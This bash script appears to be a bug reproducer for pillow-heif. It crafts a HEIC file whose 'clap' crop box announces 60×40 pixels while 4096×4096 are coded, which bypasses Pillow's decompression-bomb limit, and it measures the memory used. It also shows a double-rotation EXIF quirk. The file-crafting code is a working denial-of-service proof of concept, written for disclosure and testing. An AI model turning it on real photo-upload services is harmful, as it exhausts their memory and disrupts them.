#!/usr/bin/env bash
# pillow-heif 1.8.1 (libheif 1.23.6) with Pillow 13.0.0: the size of a HEIC picture before it is decoded is the size behind a crop, not that of what has to be decoded.
# One would expect `open_heif(…).size`, and Pillow's guard against decompression bombs that looks at it, to bound the work. A file may crop (`clap`) whatever is coded to a few pixels:
# below 4,096 × 4,096 pixels are decoded for a picture that says 60 × 40, and Pillow's limit of a hundred thousand pixels is not noticed. The coded sizes stand in the `ispe` boxes of the header.
# Beside it: the file keeps the EXIF tag "turn me by 90°" although the pixels are turned as they are decoded; whoever copies that EXIF beside the pixels turns them twice.
# It hurts every service that takes photos from strangers: a small file with a small announced size takes hundreds of megabytes.
set -euo pipefail
folder=$(mktemp -d)
trap 'rm -rf "$folder"' EXIT
python3 -m venv "$folder/venv"
"$folder/venv/bin/pip" install --quiet --disable-pip-version-check pillow-heif==1.8.1 pillow==13.0.0 2>"$folder/pip.log" || { cat "$folder/pip.log"; exit 1; }
"$folder/venv/bin/python" - <<'PYTHON'
import io
import subprocess
import sys

import pillow_heif
from PIL import Image


def picture(size, **options):
    out = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", size, "white")).save(out, quality=50, **options)
    return out.getvalue()


turned = Image.Exif()
turned[0x0112] = 6
held = pillow_heif.open_heif(picture((60, 40), exif=turned.tobytes()))
told = Image.Exif()
told.load(held.info["exif"])
print("turned already:", held.size, "and EXIF still says:", told[0x0112])

# A colour profile of the length of a crop gives its place to one that leaves 60 × 40.
large = picture((4096, 4096), icc_profile=bytes(28))
at = large.index(b"colrprof")
cropped = large[:at] + b"clap" + b"".join(n.to_bytes(4) for n in (60, 1, 40, 1, 0, 1, 0, 1)) + large[at + 36 :]
place = cropped.index(b"ispe") + 8
coded = tuple(int.from_bytes(cropped[place + n : place + n + 4]) for n in (0, 4))
opening = """
import io, re, sys
import pillow_heif
from PIL import Image

def megabytes():
    return int(re.search("VmHWM:[^0-9]*([0-9]+)", open("/proc/self/status").read())[1]) // 1024

pillow_heif.register_heif_opener()
Image.MAX_IMAGE_PIXELS = 100_000
opened = Image.open(io.BytesIO(sys.stdin.buffer.read()))
before, said = megabytes(), opened.size
opened.load()
print(said[0], said[1], megabytes() - before)
"""
wide, high, used = map(int, subprocess.run([sys.executable, "-c", opening], input=cropped, capture_output=True, check=True).stdout.split())
print(f"{len(cropped):,} bytes that say {wide} x {high}, coded {coded[0]} x {coded[1]}: {used} MB to decode")
assert (wide, high) == (60, 40) and coded == (4096, 4096) and used > 30, "the behaviour has changed"
assert held.size == (40, 60) and told[0x0112] == 6, "the behaviour has changed"
PYTHON
